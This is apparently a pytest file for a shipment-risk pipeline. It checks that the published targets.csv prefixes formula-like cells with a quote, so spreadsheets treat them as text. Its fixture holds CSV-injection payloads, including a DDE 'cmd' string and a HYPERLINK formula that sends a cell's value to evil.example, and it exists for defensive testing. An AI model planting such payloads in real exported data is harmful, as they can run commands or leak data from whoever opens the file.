"""The published targets.csv is safe to open in a spreadsheet (issue 12): manifest text that
starts like a formula is written as text, as in the workbench's CSV export."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import polars as pl

from riskpipe import publish
from riskpipe import schema as S
from riskpipe.config import load_settings
from riskpipe.ingest import ingest_paths
from riskpipe.nightly import rank_and_stage_step
from riskpipe.store import Layout

DAY = date(2026, 1, 5)
HOSTILE = {
    "T1": "=cmd|' /C calc'!A0",
    "T2": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "T3": "+1+2",
    "T4": "@SUM(A1:A2)",
    "T5": "-2+3",
    "T6": "plain phone case",
}


def manifest_row(sid: str, description: str) -> dict[str, str]:
    return {
        S.SHIPMENT_ID: sid,
        S.FILED_AT: "2026-01-05T08:00:00Z",
        S.ARRIVAL_DATE: DAY.isoformat(),
        S.ENTRY_TYPE: "321",
        S.MODE: "express",
        S.CARRIER_CODE: "DHL",
        S.PORT_OF_ENTRY: "4701",
        S.SHIPPER_NAME: "=1+1" if sid == "T1" else "Shipper",
        S.SHIPPER_ADDRESS: "B",
        S.SHIPPER_COUNTRY: "CN",
        S.CONSIGNEE_NAME: "C",
        S.CONSIGNEE_ADDRESS: "1 Main St",
        S.CONSIGNEE_CITY: "X",
        S.CONSIGNEE_STATE: "NY",
        S.CONSIGNEE_POSTAL_CODE: "10001",
        S.DESCRIPTION: description,
        S.COUNTRY_OF_ORIGIN: "CN",
        S.DECLARED_VALUE: "5",
        S.CURRENCY: "USD",
        S.GROSS_WEIGHT_KG: "0.2",
        S.PIECE_COUNT: "1",
    }


def test_published_targets_csv_guards_formula_cells(tmp_path: Path) -> None:
    home = tmp_path / "home"
    layout = Layout(home)
    layout.landing.mkdir(parents=True)
    pl.DataFrame([manifest_row(sid, d) for sid, d in HOSTILE.items()]).write_csv(layout.landing / "m.csv")
    assert ingest_paths(layout).rows_ingested == len(HOSTILE)
    settings = load_settings(home)
    scored = pl.DataFrame(
        {
            S.SHIPMENT_ID: list(HOSTILE),
            S.RISK_SCORE: [0.9, 0.8, 0.7, 0.6, 0.5, 0.4],
            S.RULE_SCORE: [0.0] * len(HOSTILE),
            S.REASONS: [["=rule:x"], ["model:score"], [], [], [], []],
            S.MODEL_VERSION: ["v1"] * len(HOSTILE),
        },
        schema={c: S.SCORES_SCHEMA[c] for c in S.SCORES_SCHEMA},
    )
    scored_file = tmp_path / "scored.parquet"
    scored.write_parquet(scored_file)
    staged = publish.stage(layout, DAY)
    rank_and_stage_step(layout, settings, DAY, scored_file, staged, None, {})
    final = publish.commit(layout, staged)

    text = (final["targets"] / "targets.csv").read_text(encoding="utf-8")
    rows = {r[S.SHIPMENT_ID]: r for r in csv.DictReader(io.StringIO(text))}
    assert set(rows) == set(HOSTILE)
    for sid, description in HOSTILE.items():
        cell = rows[sid][S.DESCRIPTION]
        if description[0] in "=+-@":
            assert cell == "'" + description, (sid, cell)  # text, not a formula
        else:
            assert cell == description
    assert rows["T1"][S.SHIPPER_NAME] == "'=1+1"
    assert rows["T1"][S.REASONS] == "'=rule:x"
    # numbers stay numbers (a negative value is not text)
    assert float(rows["T1"][S.RISK_SCORE]) == 0.9
    # no cell anywhere in the file starts a formula
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row)
    # the parquet keeps the values as filed (the guard is for spreadsheets only)
    t = pl.read_parquet(final["targets"] / "targets.parquet")
    assert t.filter(pl.col(S.SHIPMENT_ID) == "T1")[S.DESCRIPTION].item() == HOSTILE["T1"]
